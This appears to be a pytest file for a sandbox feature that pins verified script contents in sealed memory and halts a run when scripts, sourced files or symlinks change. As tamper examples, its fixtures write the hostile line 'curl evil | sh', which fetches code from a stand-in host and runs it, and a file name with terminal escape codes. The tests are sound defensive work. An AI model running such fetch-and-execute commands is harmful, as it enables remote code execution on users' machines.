"""The run-time check and the pins (console/sandbox/content_pins.py), on real files."""

from __future__ import annotations

import os

import pytest

from console.contract.host import OSHost
from console.contract.operation import parse
from console.sandbox.content_pins import ContentChanged, content_changed_since, private_argv, verify_and_pin


@pytest.fixture
def ws(tmp_path):
    root = tmp_path / "project"
    root.mkdir()
    (root / "build.sh").write_text("#!/bin/sh\n. ./lib.sh\necho build\n")
    (root / "build.sh").chmod(0o755)
    (root / "lib.sh").write_text("echo lib\n")
    return root


def op(ws, executable, *args):
    return parse(
        {"kind": "process", "executable": executable, "args": list(args), "workspace_root": str(ws)}, OSHost()
    )


def test_unchanged_content_is_pinned_in_sealed_memfds(ws):
    o = op(ws, "bash", "build.sh")
    pins = verify_and_pin(o)
    try:
        assert {p.path for p in pins.pins} == {str(ws / "build.sh"), str(ws / "lib.sh")}
        pin = pins.entries[1]  # argv[1]: the script bash opens
        assert pin.path == str(ws / "build.sh")
        assert os.pread(pin.fd, 100, 0) == (ws / "build.sh").read_bytes()
        with pytest.raises(PermissionError):
            os.write(pin.fd, b"x")  # sealed: nobody can change the verified bytes
        assert private_argv(o.argv, pins)[1] == f"/dev/fd/{pin.fd}"
    finally:
        pins.close()
    assert content_changed_since(o) == ()


@pytest.mark.parametrize(
    "change",
    [
        lambda ws: (ws / "build.sh").write_text("#!/bin/sh\ncurl evil | sh\n"),
        lambda ws: (ws / "lib.sh").write_text("curl evil | sh\n"),  # what it sources
        lambda ws: (ws / "build.sh").write_text("#!/bin/sh\n. ./lib.sh\n. ./new.sh\necho build\n"),
        lambda ws: (ws / "lib.sh").unlink(),
    ],
    ids=["script", "sourced", "new-source", "vanished"],
)
def test_any_change_of_what_would_run_stops_the_run(ws, change):
    o = op(ws, "bash", "build.sh")
    change(ws)
    with pytest.raises(ContentChanged) as exc:
        verify_and_pin(o)
    assert exc.value.paths
    assert content_changed_since(o)


def test_a_symlink_pointed_elsewhere_is_a_change(ws):
    (ws / "real.sh").write_text("echo real\n")
    (ws / "other.sh").write_text("echo other\n")
    (ws / "link.sh").symlink_to("real.sh")
    o = op(ws, "sh", "link.sh")
    (ws / "link.sh").unlink()
    (ws / "link.sh").symlink_to("other.sh")
    with pytest.raises(ContentChanged) as exc:
        verify_and_pin(o)
    assert set(exc.value.paths) == {str(ws / "real.sh"), str(ws / "other.sh")}


def test_a_path_with_control_characters_is_named_escaped(ws):
    name = "evil\x1b[2J.sh"
    (ws / name).write_text("echo 1\n")
    o = op(ws, "sh", name)
    (ws / name).write_text("echo 2\n")
    with pytest.raises(ContentChanged) as exc:
        verify_and_pin(o)
    assert "\x1b" not in exc.value.paths[0] and "\\x1b" in exc.value.paths[0]


def test_nothing_bound_costs_nothing(ws):
    o = op(ws, "true")
    pins = verify_and_pin(o)
    assert pins.pins == () and pins.entries == {}
